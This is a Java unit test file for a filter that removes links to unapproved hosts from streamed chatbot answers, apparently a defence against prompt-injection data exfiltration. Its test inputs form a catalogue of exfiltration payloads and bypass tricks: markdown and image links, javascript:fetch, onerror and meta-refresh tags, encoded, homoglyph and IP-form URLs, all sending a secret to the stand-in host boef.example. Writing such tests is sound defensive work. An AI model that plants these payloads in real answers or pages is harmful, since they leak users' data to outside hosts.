package eu.sluis.injection;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OutgoingLinksTest {

  private static final String MARK = "(link weggelaten)";
  private static final AllowedHosts ALLOWED =
      AllowedHosts.of(List.of("www.veenwijk.example", "*.overheid.example", "café.example"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Zie https://www.veenwijk.example/afval?wijk=3#top.",
        "[afval](https://www.veenwijk.example/afval) en [wet](https://wetten.overheid.example/x)",
        "![kaart](https://www.veenwijk.example/kaart.png)",
        "<https://www.veenwijk.example>",
        "www.veenwijk.example/afval",
        "https://caf\u00e9.example/ en https://xn--caf-dma.example/",
        "[1]: https://www.veenwijk.example/bron",
        "Mail naar loket@veenwijk.example of bel 14 010 (a < b, x<3).",
        "Het kost \u20ac 3,50 per jaar, art. 2.3.5, bijv. om 14:30 uur; zie bijlage.pdf",
        "Stap 1: lees.Dan tekenen. // geen adres",
        "| a | b |\n|---|---|\n| 1 | 2 |"
      })
  void what_is_allowed_or_no_address_stays_as_it_is(String answer) {
    assertThat(filtered(answer)).isEqualTo(answer);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[klik](https://boef.example/?d=geheim)",
        "[klik]( https://boef.example/?d=geheim )",
        "[klik](<https://boef.example/?d=geheim x>)",
        "[klik](//boef.example/?d=geheim)",
        "[klik](/\\boef.example/?d=geheim)",
        "[klik](https:boef.example/geheim)",
        "[klik](HTTPS://BOEF.example/geheim)",
        "[klik](https://www.veenwijk.example@boef.example/geheim)",
        "[klik](https://www.veenwijk.example.boef.example/geheim)",
        "[klik](https://www.veenwijk.example:8443/geheim)",
        "[klik](https://www.veenwijk.example/r?u=https://boef.example/geheim)",
        "[klik](https://www.veenwijk.example/r?u=https%3A%2F%2Fboef.example%2Fgeheim)",
        "[klik](https://www.veenwijk.example/r?u=https%253A%252F%252Fboef.example%252Fgeheim)",
        "[klik](https://www.veenwijk.example/r?u=//boef.example/geheim)",
        "![](https://boef.example/geheim.png)",
        "![x][1]\n\n[1]: https://boef.example/geheim",
        "[1]:\n  <https://boef.example/geheim>",
        "<https://boef.example/geheim>",
        "https://boef.example/geheim",
        "Zie:https://boef.example/geheim",
        "www.boef.example/geheim",
        "boef.example/geheim",
        "geheim.boef.example",
        "http://127.0.0.1:9/geheim",
        "10.0.0.1/geheim",
        "http://2130706433/geheim",
        "http://[::1]/geheim",
        "ftp://boef.example/geheim",
        "javascript:fetch('//boef.example/geheim')",
        "data:text/html;base64,geheim",
        "mailto:x@boef.example?body=geheim",
        "<img src=https://boef.example/geheim>",
        "<img src='//boef.example/geheim'>",
        "<IMG\nSRC = \"https://boef.example/geheim\" >",
        "<img src=\"ht\ntps://boef.example/geheim\">",
        "<img src=\"&#104;ttps://boef.example/geheim\">",
        "<img src=x srcset=\"/a 1x, //boef.example/geheim 2x\">",
        "<a style=\"background:url(//boef.example/geheim)\">",
        "<img src=x onerror=\"location='//boef.ex'+'ample/geheim'\">",
        "<script>fetch('geheim')",
        "<meta http-equiv=refresh content=\"0;url=https://boef.example/geheim\">",
        "[klik](&#104;ttps&colon;//boef.example/geheim)",
        "[klik](https\\://boef.example/geheim)",
        "https://b\u043eef.example/geheim",
        "https://boef\u3002example/geheim",
        "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fboef.example/geheim",
        "ht\u200btps://boef.example/geheim",
        "https://www.veenw\u0131jk.example/geheim"
      })
  void an_address_elsewhere_is_lost(String answer) {
    String shown = filtered("Uw antwoord. " + answer + " Tot ziens.");
    assertThat(shown).contains(MARK).startsWith("Uw antwoord. ").endsWith("Tot ziens.");
    assertThat(shown).doesNotContain("boef.", "//", "data:", "body=");
    assertThat(shown.replace("fetch('geheim')", "")).doesNotContain("geheim");
  }

  @Test
  void the_text_of_a_link_stays() {
    assertThat(filtered("Lees [de hele uitleg](https://boef.example/?d=1) even."))
        .isEqualTo("Lees [de hele uitleg] " + MARK + " even.");
  }

  @Test
  void the_cut_of_the_pieces_makes_no_difference() {
    String answer =
        "Dag! [a](https://boef.example/x) ![b](//boef.example/y?z=1) <img src=\"https://boef.example\">"
            + " [1]: https://boef.example\n www.veenwijk.example en https://wetten.overheid.example/a.";
    String whole = filtered(answer);
    long seed = 11;
    var random = new SplittableRandom(seed);
    for (int i = 0; i < 500; i++) {
      var links = new OutgoingLinks(ALLOWED, List.of(), MARK);
      var shown = new StringBuilder();
      for (int at = 0; at < answer.length(); ) {
        int end = Math.min(answer.length(), at + 1 + random.nextInt(i % 2 == 0 ? 3 : 40));
        shown.append(links.next(answer.substring(at, end)));
        at = end;
      }
      shown.append(links.end());
      assertThat(shown.toString()).as("seed " + seed).isEqualTo(whole);
    }
  }

  @Test
  void words_are_given_as_soon_as_they_are_whole() {
    var links = new OutgoingLinks(ALLOWED, List.of(), MARK);
    assertThat(links.next("De container staat")).isEqualTo("De container ");
    assertThat(links.next(" [buiten")).isEqualTo("staat ");
    assertThat(links.next(" gezet]")).isEqualTo("[buiten ");
    assertThat(links.end()).isEqualTo("gezet]");
  }

  @Test
  void what_is_too_long_to_hold_is_lost_when_it_is_an_address_and_kept_when_it_is_not() {
    String words = "x".repeat(3 * OutgoingLinks.HELD_CHARACTERS_MAX);
    assertThat(filtered(words)).isEqualTo(words);
    assertThat(filtered("https://boef.example/" + words + " einde")).isEqualTo(MARK + " einde");
    String open = filtered("<img src=\"" + words + "\" x=\"https://boef.example/q\">");
    assertThat(open).doesNotContain("<", "boef");
  }

  @Test
  void nothing_throws_and_no_address_is_left() {
    long seed = 12;
    var random = new SplittableRandom(seed);
    String[] parts = {
      "https://boef.example/q", "//boef.example", "[", "](", ")", "<", ">", "]:", " ", "\n", "!",
      "\\", "&#58;", "a", "\"", "=", "www.veenwijk.example", "src", "'", "\u200b", "é", "("
    };
    for (int i = 0; i < 20_000; i++) {
      var answer = new StringBuilder();
      for (int p = random.nextInt(12); p >= 0; p--) {
        answer.append(parts[random.nextInt(parts.length)]);
      }
      assertThat(filtered(answer.toString()))
          .as("seed " + seed + ": " + answer)
          .doesNotContain("https://boef.example");
    }
  }

  @Test
  void hosts_of_sources_are_added() {
    AllowedHosts hosts = AllowedHosts.none().andThoseOf(List.of("https://bron.example:8443/a?b"));
    assertThat(hosts.allow("https://bron.example:8443/anders")).isTrue();
    assertThat(hosts.allow("https://bron.example/anders")).isFalse();
    assertThat(hosts.allow("https://www.veenwijk.example/")).isFalse();
  }

  private static String filtered(String answer) {
    var links = new OutgoingLinks(ALLOWED, List.of(), MARK);
    return links.next(answer) + links.end();
  }

  @Test
  void what_was_said_to_the_letter_may_come_back_and_nothing_more() {
    String said =
        "Zie https://ver.example/pagina?x=1 of mail hulp@ver.example, en <script src=\"a.js\">.";
    var links = new OutgoingLinks(AllowedHosts.none(), List.of(said), MARK);
    assertThat(links.next(said) + links.end()).isEqualTo(said);
    var more = new OutgoingLinks(AllowedHosts.none(), List.of(said), MARK);
    assertThat(
            more.next(
                    "https://ver.example/pagina?x=12 https://ver.example/pagi <script src=\"b.js\">")
                + more.end())
        .isEqualTo(MARK + " " + MARK + " " + MARK);
  }

  @Test
  void two_lists_must_both_name_a_host_and_a_star_names_all() {
    var one = AllowedHosts.of(List.of("a.example", "b.example"));
    var other = AllowedHosts.of(List.of("b.example", "c.example"));
    assertThat(one.and(other).allow("https://b.example/x")).isTrue();
    assertThat(one.and(other).allow("https://a.example/x")).isFalse();
    var every = AllowedHosts.of(List.of("*"));
    assertThat(every.everything()).isTrue();
    assertThat(every.and(one).everything()).isFalse();
    assertThat(every.and(one).allow("https://c.example/")).isFalse();
  }
}
